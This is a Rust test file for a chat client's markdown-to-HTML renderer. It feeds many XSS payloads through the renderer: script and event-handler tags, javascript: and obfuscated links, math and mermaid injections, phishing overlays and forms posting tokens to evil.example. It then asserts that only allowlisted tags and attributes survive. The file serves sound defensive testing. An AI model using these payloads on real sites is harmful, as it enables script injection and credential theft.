//! What a hostile answer may try. Each attack is rendered whole, watched while it streams, and hidden in every
//! kind of block; what comes out is then read tag by tag.

use super::{Stream, render};

/// Markdown that would run, load, restyle or mislead in a careless window.
pub(super) const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/pixel.png\">",
    "<img/src='x'/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"position:fixed;inset:0\">Sign in again</div>",
    "<p class=\"composer\" id=\"send\" role=\"alert\">x</p>",
    "<form action=\"https://evil.example\"><input name=token><button>Go</button></form>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\" onclick=alert(1)>x</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](javascript://example.com/%0aalert(1))",
    "[x](javascript:alert(1) \"\\\" onmouseover=alert(1)\")",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.com/1)",
    "[x](dev.wingman.desktop://oauth/callback?code=1&state=2)",
    "[x](vscode://evil/run)",
    "[x](ms-msdt:/id)",
    "[x](tauri://localhost/)",
    "[x](//evil.example)",
    "[x](https://github.com@evil.example/login)",
    "[x](https://example.com/\"onmouseover=\"alert(1))",
    "[x](https://example.com/'><script>alert(1)</script>)",
    "[x](mailto:a@b.c?subject=\"><script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<https://example.com/\"onclick=alert(1)>",
    "https://example.com/\"><script>alert(1)</script>",
    "https://example.com/?a=<img/src=x/onerror=alert(1)>",
    "[x]\n\n[x]: javascript:alert(1)\n\n[x] [y][x]",
    "[x]: <javascript:alert(1)> \"title\"\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](https://evil.example/p.png \"\" onload=alert(1))",
    "![\"onerror=\"alert(1)](x)",
    "![![x](javascript:alert(1))](https://evil.example/a.png)",
    "![<img src=x onerror=alert(1)>](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[^1]: <script>alert(1)</script>\n\n[^1]",
    "[^<img src=x>]: x",
    "[^\"onload=alert(1)]: x\n\na[^\"onload=alert(1)]",
    "`<script>alert(1)</script>`",
    "```\"><script>alert(1)</script>\nx\n```",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "    </code><script>alert(1)</script>",
    "# <script>alert(1)</script> {#id .composer onclick=alert(1)}",
    "> [!NOTE onclick=x]\n> <script>alert(1)</script>",
    "| <script> | a |\n|---|---|\n| <img src=x onerror=alert(1)> | </td></table><script>alert(1)</script> |",
    "- [ ] <input type=password autofocus onfocus=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "**<script>**alert(1)</script>",
    "<br onclick=alert(1)>",
    "<br\n>",
    "\u{0}<script\u{0}>alert(1)</script>",
    "<script\u{c}>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "$$\\href{javascript:alert(1)}{x}$$",
    "$\\text{</math><script>alert(1)</script>}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\frac{<script>alert(1)</script>$",
    "\\(</annotation></semantics></math><script>alert(1)</script>\\)",
    "\\[\\style{position:fixed}{x} \\class{composer}{x} \\htmlId{send}{x}\\]",
    "$\\color{red;background:url(https://evil.example)}x$",
    "$\\rule{1e9em}{1e9em}$",
    "$\\includegraphics{https://evil.example/x.png}$",
    "```math\n</p><script>alert(1)</script>\n```",
    "<span class=\"math\">0</span> $x$",
    "<span class=\"math\">0</span>",
    "[^name\"onload=alert(1)]",
    "[^<b>]: x\n\n[^<b>]",
    "[x](#\"onclick=alert(1))",
    "[x](#%22%3E%3Cscript%3Ealert(1)%3C/script%3E)",
    "# \"><img src=x onerror=alert(1)>",
    "![\"onerror=alert(1)](data:image/png;base64,AAAA)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](data:image/png;base64,AA\"onerror=\"alert(1))",
    "[x](data:image/png;base64,AAAA)",
    "```mermaid\ngraph TD; A[\"<img src=x onerror=alert(1)>\"] --> B; click A call alert(1)\n```",
    "```mermaid\n%%{init: {\"securityLevel\": \"loose\"}}%%\ngraph TD; A-->B; click A href \"javascript:alert(1)\"\n```",
    "\u{1b}]8;;javascript:alert(1)\u{7}x\u{1b}]8;;\u{7}",
];

/// A tag as it stands in the HTML.
struct TagSeen {
    name: String,
    attributes: Vec<(String, String)>,
}

/// Reads the tags of our own output, which is always quoted and escaped; anything else fails the test.
fn tags(html: &str) -> Vec<TagSeen> {
    let mut seen = Vec::new();
    let mut rest = html;
    while let Some((_, after)) = rest.split_once('<') {
        let mut inside = after.strip_prefix('/').unwrap_or(after);
        let end = inside.find(|c: char| !c.is_ascii_alphanumeric()).unwrap_or(inside.len());
        let mut tag = TagSeen { name: inside[..end].to_owned(), attributes: Vec::new() };
        inside = &inside[end..];
        while let Some(attribute) = inside.strip_prefix(' ') {
            let (name, value) =
                attribute.split_once("=\"").unwrap_or_else(|| panic!("an attribute without quotes in {html}"));
            let (value, next) =
                value.split_once('"').unwrap_or_else(|| panic!("an attribute without an end in {html}"));
            tag.attributes.push((name.to_owned(), value.to_owned()));
            inside = next;
        }
        rest = inside.strip_prefix('>').unwrap_or_else(|| panic!("a tag without an end in {html}"));
        seen.push(tag);
    }
    seen
}

/// What formulas are made of.
const MATHML: &[&str] = &[
    "annotation",
    "math",
    "mfrac",
    "mi",
    "mn",
    "mo",
    "mover",
    "mpadded",
    "mrow",
    "mspace",
    "msqrt",
    "mstyle",
    "msub",
    "msubsup",
    "msup",
    "mtable",
    "mtd",
    "mtext",
    "mtr",
    "munder",
    "munderover",
    "semantics",
];

/// Fails unless the HTML holds nothing but what an answer may.
pub(super) fn assert_safe(html: &str, attack: &str) {
    for tag in tags(html) {
        if MATHML.contains(&tag.name.as_str()) {
            for (name, value) in &tag.attributes {
                let layout = [
                    "display",
                    "displaystyle",
                    "encoding",
                    "lspace",
                    "mathvariant",
                    "rspace",
                    "scriptlevel",
                    "stretchy",
                    "width",
                    "height",
                    "depth",
                    "minsize",
                    "maxsize",
                    "accent",
                    "linethickness",
                    "form",
                ];
                let fine = layout.contains(&name.as_str()) && !value.contains(':')
                    || name == "class" && value.split(' ').all(|class| class.starts_with("m-"));
                assert!(fine, "{attack:?} brings in {name}={value:?}: {html}");
            }
            continue;
        }
        let known = [
            "a",
            "blockquote",
            "br",
            "code",
            "del",
            "div",
            "em",
            "figcaption",
            "figure",
            "h1",
            "h2",
            "hr",
            "img",
            "input",
            "label",
            "li",
            "ol",
            "p",
            "pre",
            "span",
            "strong",
            "sup",
            "table",
            "tbody",
            "td",
            "th",
            "thead",
            "tr",
            "ul",
        ];
        assert!(known.contains(&tag.name.as_str()), "{attack:?} brings in <{}>: {html}", tag.name);
        for (name, value) in &tag.attributes {
            let fine = match name.as_str() {
                "href" => {
                    let place = |value: &str| value.chars().all(|c| c.is_alphanumeric() || "-_".contains(c));
                    value.starts_with("https://")
                        || value.starts_with("http://")
                        || value.starts_with("mailto:")
                        || value.strip_prefix('#').is_some_and(place)
                }
                "src" => value.strip_prefix("data:image/png;base64,").is_some_and(|bytes| !bytes.contains([':', ';'])),
                "alt" => tag.name == "img",
                "data-anchor" => value.chars().all(|c| c.is_alphanumeric() || "-_".contains(c)),
                "class" => {
                    value.starts_with("t-")
                        || value.starts_with("align-")
                        || [
                            "code",
                            "code-head",
                            "table",
                            "task",
                            "footnote",
                            "footnote-mark",
                            "footnote-name",
                            "math",
                            "math math-display",
                            "math-source",
                        ]
                        .contains(&value.as_str())
                }
                "rel" => value == "noreferrer noopener",
                "role" => value == "group",
                "tabindex" => value == "0",
                "type" => value == "checkbox",
                "data-language" => value.chars().all(|c| c.is_ascii_alphanumeric() || "+#-_.".contains(c)),
                "data-alert" | "dir" | "scope" | "start" | "disabled" | "checked" => true,
                _ => false,
            };
            assert!(fine, "{attack:?} brings in {name}={value:?}: {html}");
        }
        if tag.name == "input" {
            assert!(tag.attributes.iter().any(|(name, _)| name == "disabled"), "{attack:?}: a box that can be used");
        }
    }
    assert!(!html.chars().any(|c| c.is_control() && c != '\n' && c != '\t'), "{attack:?} brings control characters");
}

#[test]
fn no_attack_gets_through_alone_or_inside_any_block() {
    for attack in ATTACKS {
        let indented = attack.replace('\n', "\n  ");
        for text in [
            (*attack).to_owned(),
            format!("before {attack} after"),
            format!("- {indented}\n- b"),
            format!("> {}", attack.replace('\n', "\n> ")),
            format!("# {attack}"),
            format!("| a |\n|---|\n| {attack} |"),
            format!("*{attack}* **{attack}** [{attack}](https://example.com)"),
            format!("![{attack}](https://example.com/a.png)"),
            format!("```html\n{attack}\n```"),
            format!("[^1]: {attack}"),
            format!("- [x] {attack}"),
        ] {
            for block in render(&text) {
                assert_safe(&block.html, &text);
            }
            let mut stream = Stream::new();
            for character in text.chars() {
                stream.push(character.encode_utf8(&mut [0; 4]));
            }
            assert_safe(stream.tail(), &text);
        }
    }
}

#[test]
fn no_prefix_of_an_attack_gets_through_while_it_streams() {
    for attack in ATTACKS {
        let mut stream = Stream::new();
        for character in attack.chars() {
            stream.push(character.encode_utf8(&mut [0; 4]));
            assert_safe(stream.tail(), attack);
        }
    }
}

#[test]
fn an_attack_is_seen_for_what_it_is() {
    let shown = |text: &str| render(text).remove(0).html;
    assert!(
        shown("<script>alert(1)</script>").contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "raw HTML can be read"
    );
    assert_eq!(shown("[x](javascript:alert(1))"), "<p dir=\"auto\">x</p>", "a bad link is its text");
}

#[test]
fn hostile_sizes_neither_hang_nor_break() {
    let sizes: &[(&str, usize)] = &[
        ("[", 50_000),
        ("![", 50_000),
        ("](", 50_000),
        ("[a](", 20_000),
        ("<", 50_000),
        ("<!--", 20_000),
        ("`", 50_000),
        ("``` ", 20_000),
        ("*", 50_000),
        ("*a_", 30_000),
        ("_a ", 30_000),
        ("~", 50_000),
        (">", 50_000),
        ("- ", 30_000),
        ("1. ", 20_000),
        ("|", 50_000),
        ("| a ", 20_000),
        ("&", 50_000),
        ("&#", 30_000),
        ("\\", 50_000),
        ("#", 50_000),
        ("[^1]", 30_000),
        ("[^", 50_000),
        ("http://", 30_000),
        ("https://a)", 20_000),
        ("(https://a", 10_000),
        ("\r", 50_000),
        ("\n", 50_000),
        ("a\n\n", 2_000),
        ("> \n", 10_000),
        ("- a\n\n", 3_000),
        ("[a]: b\n", 10_000),
        ("[a] ", 10_000),
        ("\u{202e}", 50_000),
        ("<br>", 10_000),
        ("- [ ] a\n", 3_000),
        ("|-", 20_000),
        ("$", 50_000),
        ("$$", 30_000),
        ("$$\n", 10_000),
        ("$x$", 2_000),
        ("\\(", 30_000),
        ("\\[", 30_000),
        ("\\[\n", 10_000),
        ("`\\(", 5_000),
        ("\\(x\\)", 2_000),
        ("<b \\(x\\)>", 1_000),
        ("[^ab]", 10_000),
    ];
    for (piece, times) in sizes {
        for block in render(&piece.repeat(*times)) {
            assert_safe(&block.html, piece);
        }
    }
}

#[test]
fn code_that_would_cost_too_much_stays_plain() {
    let long_line = format!("```js\n{}\n```", "a=1;".repeat(4_000));
    assert!(!render(&long_line)[0].html.contains("t-"), "a line of 16 KB is data");
    let long = format!("```js\n{}\n```", "let a = 1;\n".repeat(20_000));
    assert!(!render(&long)[0].html.contains("t-"), "220 KB are too many to colour");
}
